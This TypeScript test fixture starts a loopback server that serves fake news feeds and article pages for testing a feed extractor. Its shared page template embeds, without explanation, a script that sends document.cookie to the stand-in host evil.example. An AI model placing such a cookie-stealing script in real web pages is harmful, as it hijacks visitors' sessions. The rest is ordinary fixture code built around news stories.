import http from "node:http";
import type { AddressInfo } from "node:net";
import { applyEdit, corpusStory } from "./near-duplicate-pairs.js";

/**
 * A fixture web on loopback: feeds (RSS with odd dates, CDATA and full content, Atom, JSON Feed, a
 * malformed one) and the article pages they link to, including a redirect, a paywall stub, a PDF,
 * an oversized page, a page with no article, and another outlet's copy of a wire story.
 */
export interface FixtureWeb {
  origin: string;
  /** Requests served, as "METHOD path". */
  requests: string[];
  /** Changes the RSS feed's ETag, as a publisher's edit would. */
  touchRss(): void;
  close(): Promise<void>;
}

const esc = (s: string) => s.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/>/g, "&gt;");
const paragraphs = (text: string) =>
  text
    .split(/\n\s*\n/)
    .map((p) => `<p>${esc(p.trim())}</p>`)
    .join("\n");

/** The body of a story file without its headline (first paragraph). */
export const storyBody = (name: string) =>
  corpusStory(name)
    .split(/\n\s*\n/)
    .slice(1)
    .join("\n\n");
export const storyTitle = (name: string) => corpusStory(name).split(/\n/)[0]?.trim() ?? "";

function page(opts: { title: string; body: string; head?: string; site?: string }): string {
  return `<!doctype html><html><head><meta charset="utf-8"><title>${esc(opts.title)} | ${opts.site ?? "Levant Wire"}</title>${opts.head ?? ""}
<script>window.location = "https://evil.example/?c=" + document.cookie</script></head>
<body><nav><a href="/">Home</a> <a href="/world">World</a> <a href="/subscribe">Subscribe</a></nav>
<article><h1>${esc(opts.title)}</h1>${opts.body}</article>
<footer><p>© 2025 ${opts.site ?? "Levant Wire"}. All rights reserved.</p></footer></body></html>`;
}

export const AMBUSH = "008_sukhnah-ambush-reuters";
export const INFILTRATION = "010_border-infiltration-afp";
export const CONVOY = "034_alhol-iraqi-convoy-ap";
export const CAPTAGON = "026_qaim-captagon-clash-reuters";
export const STRIKES = "017_sweida-strikes-ap";
export const TOLL = "019_badia-toll-snhr-report";

const COOKIE =
  "We use cookies to improve your experience on our site. By continuing to browse you agree to our use of cookies.";
const NEWSLETTER =
  "Sign up for our Middle East briefing newsletter and get the day's most important stories delivered to your inbox every morning.";

export async function startFixtureWeb(options: { oversizedBytes?: number } = {}): Promise<FixtureWeb> {
  const requests: string[] = [];
  let rssTag = 1;
  let origin = "";
  const routes: Record<
    string,
    () => { status: number; type: string; body: string | Buffer; headers?: Record<string, string> }
  > = {
    "/levant/rss.xml": () => ({
      status: 200,
      type: "application/rss+xml; charset=utf-8",
      headers: { etag: `"rss-${rssTag}"`, "last-modified": "Mon, 17 Mar 2025 10:00:00 GMT" },
      body: `<?xml version="1.0" encoding="UTF-8"?>
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/" xmlns:dc="http://purl.org/dc/elements/1.1/">
<channel><title>Levant Wire &amp; Partners</title><link>${origin}/levant/</link>
<item><title>${esc(storyTitle(AMBUSH))}</title><link>${origin}/levant/ambush.html</link><guid isPermaLink="false">levant-1</guid>
  <pubDate>Mon, 17 Mar 25 09:14:00 GMT</pubDate><description><![CDATA[<p>Islamic State militants killed 11 soldiers…</p>]]></description></item>
<item><title>${esc(storyTitle(INFILTRATION))}</title><link>${origin}/levant/infiltration.html</link><guid>levant-2</guid>
  <pubDate>3 Mar 2025 13:05 +0300</pubDate><dc:creator>AFP</dc:creator>
  <content:encoded><![CDATA[${paragraphs(storyBody(INFILTRATION))}]]></content:encoded></item>
<item><title>Exclusive: inside the desert cells</title><link>${origin}/levant/paywalled.html</link><guid>levant-3</guid><pubDate>Tue, 18 Mar 2025 08:00:00 +0000</pubDate></item>
<item><title>Full report (PDF)</title><link>${origin}/levant/report.pdf</link><guid>levant-4</guid><pubDate>not a date</pubDate></item>
<item><title>${esc(storyTitle(CONVOY))}</title><link>${origin}/go/convoy</link><guid>levant-5</guid></item>
<item><title>Photo essay: a year in the camps</title><link>${origin}/levant/huge.html</link><guid>levant-6</guid></item>
<item><title>Live: latest updates</title><link>${origin}/levant/empty.html</link><guid>levant-7</guid></item>
</channel></rss>`,
    }),
    "/levant/ambush.html": () => ({
      status: 200,
      type: "text/html; charset=utf-8",
      body: page({
        title: storyTitle(AMBUSH),
        body: paragraphs(storyBody(AMBUSH)),
        head: `<link rel="canonical" href="${origin}/levant/ambush.html"><meta name="author" content="Lina Haddad and Omar Saleh">
<script type="application/ld+json">{"@context":"https://schema.org","@type":"NewsArticle","datePublished":"2025-03-17T09:14:00Z"}</script>`,
      }),
    }),
    "/levant/paywalled.html": () => ({
      status: 200,
      type: "text/html",
      body: page({
        title: "Exclusive: inside the desert cells",
        body: "<p>Subscribe to continue reading. Already a subscriber? Log in.</p>",
      }),
    }),
    "/levant/report.pdf": () => ({
      status: 200,
      type: "application/pdf",
      body: Buffer.from("%PDF-1.7\n%…binary…"),
    }),
    "/go/convoy": () => ({
      status: 302,
      type: "text/plain",
      headers: { location: "/levant/convoy.html?ref=rss" },
      body: "",
    }),
    "/levant/convoy.html": () => ({
      status: 200,
      type: "text/html",
      body: page({
        title: storyTitle(CONVOY),
        body: `<p><time datetime="2026-03-12T09:41:00-04:00">March 12, 2026</time></p>${paragraphs(storyBody(CONVOY))}`,
        head: `<link rel="canonical" href="${origin}/levant/convoy.html">`,
      }),
    }),
    "/levant/huge.html": () => ({
      status: 200,
      type: "text/html",
      body: page({
        title: "Photo essay",
        body: `<p>${"A caption for a photograph. ".repeat(Math.ceil((options.oversizedBytes ?? 300_000) / 27))}</p>`,
      }),
    }),
    "/levant/empty.html": () => ({
      status: 200,
      type: "text/html",
      body: "<!doctype html><html><head><title>Live</title></head><body><nav><a href='/'>Home</a></nav></body></html>",
    }),
    "/desk/atom.xml": () => ({
      status: 200,
      type: "application/atom+xml",
      body: `<?xml version="1.0" encoding="utf-8"?>
<feed xmlns="http://www.w3.org/2005/Atom"><title>Middle East desk</title><id>urn:desk</id><updated>2025-11-04T06:12:00+03:00</updated>
<entry><id>urn:desk:captagon</id><title type="html">${esc(storyTitle(CAPTAGON))}</title><link rel="alternate" type="text/html" href="${origin}/desk/captagon.html"/>
  <published>2025-11-04T06:12:00+03:00</published><summary>Iraqi border guards killed two suspected drug smugglers…</summary><author><name>Omar Fadhil</name></author></entry>
<entry><id>urn:desk:ambush</id><title>Desert ambush leaves 11 soldiers dead</title><link href="${origin}/desk/ambush-copy.html"/>
  <updated>2025-03-17T11:00:00Z</updated><summary>Syndicated.</summary></entry>
</feed>`,
    }),
    "/desk/captagon.html": () => ({
      status: 200,
      type: "text/html",
      body: page({ title: storyTitle(CAPTAGON), body: paragraphs(storyBody(CAPTAGON)), site: "Desk" }),
    }),
    "/desk/ambush-copy.html": () => ({
      status: 200,
      type: "text/html",
      body: page({
        title: "Desert ambush leaves 11 soldiers dead",
        body: paragraphs(applyEdit(storyBody(AMBUSH), { prepend: COOKIE, append: NEWSLETTER })),
        site: "Desk",
      }),
    }),
    "/desk/strikes.html": () => ({
      status: 200,
      type: "text/html",
      body: page({
        title: storyTitle(STRIKES),
        body: paragraphs(storyBody(STRIKES)),
        site: "Desk",
        head: `<meta property="og:site_name" content="Amman Desk"><meta property="article:published_time" content="2025-02-12T15:47:00Z">
<script type="application/ld+json">{"@type":"NewsArticle","author":{"@type":"Person","name":"Desk staff"}}</script>`,
      }),
    }),
    "/monitor/feed.json": () => ({
      status: 200,
      type: "application/feed+json",
      body: JSON.stringify({
        version: "https://jsonfeed.org/version/1.1",
        title: "Border Monitor",
        items: [
          {
            id: "toll-2025",
            url: `${origin}/monitor/toll.html`,
            title: storyTitle(TOLL),
            content_text: storyBody(TOLL),
            date_published: "2025-06-01T10:00:00Z",
            authors: [{ name: "Monitor staff" }],
          },
        ],
      }),
    }),
    "/broken.xml": () => ({
      status: 200,
      type: "application/rss+xml",
      body: "<rss><channel><item><title>Half</title></channel>",
    }),
  };

  const server = http.createServer((req, res) => {
    const path = (req.url ?? "/").split("?")[0] ?? "/";
    requests.push(`${req.method} ${req.url}`);
    const route = routes[path];
    if (!route) {
      res.writeHead(404, { "content-type": "text/plain" }).end("not found");
      return;
    }
    const answer = route();
    const etag = answer.headers?.etag;
    if (etag && req.headers["if-none-match"] === etag) {
      res.writeHead(304, { etag }).end();
      return;
    }
    res.writeHead(answer.status, { "content-type": answer.type, ...answer.headers }).end(answer.body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  return {
    origin,
    requests,
    touchRss: () => {
      rssTag++;
    },
    close: () => new Promise<void>((resolve) => server.close(() => resolve())),
  };
}
